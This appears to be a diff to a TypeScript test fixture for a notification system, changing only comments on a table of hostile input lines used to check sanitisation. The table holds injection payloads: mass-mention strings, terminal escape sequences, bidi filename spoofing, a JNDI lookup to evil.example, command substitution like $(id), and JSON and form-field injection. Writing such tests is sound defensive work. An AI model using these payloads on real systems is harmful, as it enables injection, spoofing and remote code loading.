@@ -2,7 +2,7 @@
 import type { Notification } from '../../src/notify/notification.js';
 import { notification } from './notification.js';
 
-/** By what is hostile about them. */
+/** By the attack that each line tries. */
 export const LINES: Readonly<Record<string, string>> = {
   mentions: '@everyone @here @admin <@U123> <@!1> <@&99> <#C1> <!channel> <!here> <!subteam^S1|x> <at>all</at> </stop:1> <:x:1> /stop #tag',
   markup:
@@ -16,7 +16,7 @@ export const LINES: Readonly<Record<string, string>> = {
   ansi: '\u001b[31mred\u001b[0m\u001b[2J\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007\u009b31m\u001bc\u0007\u0008',
   bidi: '\u202egnp.exe\u202c\u2066x\u2069\u200f\u061c\u200b\u2060\ufeff\u00ad\u{e0041}',
   templates:
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a log may say.
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log line may contain it.
     '{{DATE(2017-02-14T06:08:39Z, SHORT)}} {{{x}}} ${process.env.HOME} ${jndi:ldap://evil.example/a} @{triggerBody()} {0} %s %(x)s #{x} <%= x %> $(id) `id`',
   json: '"},"topic":"evil","chat_id":"evil","parse_mode":"HTML","x":{"y":"\\',
   form: '&token=evil&user=evil&priority=2&html=1;%0d%0a',
@@ -28,11 +28,11 @@ export const LINES: Readonly<Record<string, string>> = {
   'a megabyte of markup': '<*&"\\{`\u{1f600}\ud83d\r\n@'.repeat(1 << 16),
 };
 
-/** The line wherever text from logs comes from; the id holds the group, as ids do. */
+/** A notification with the line in every text that comes from logs; the id contains the group, as all ids do. */
 export function hostile(line: string): Notification {
   const id = `${JSON.stringify(['CheckoutErrors', { host: line }])}@1`;
   return notification({ id: `${id}#fired`, firingId: id, group: { host: line }, summary: line, samples: [line, line] });
 }
 
-/** What moves a cursor, hides, turns the direction, breaks a line but as lines do, or is no character. */
+/** Characters that move a cursor, are invisible, change the direction or break a line (except `\n`), and noncharacters. */
 export const UNSHOWN = /[\p{Cc}\p{Bidi_Control}\p{Surrogate}\u00ad\u200b-\u200f\u2028\u2029\u2060-\u2069\ufeff\u{e0000}-\u{e007f}]/u;
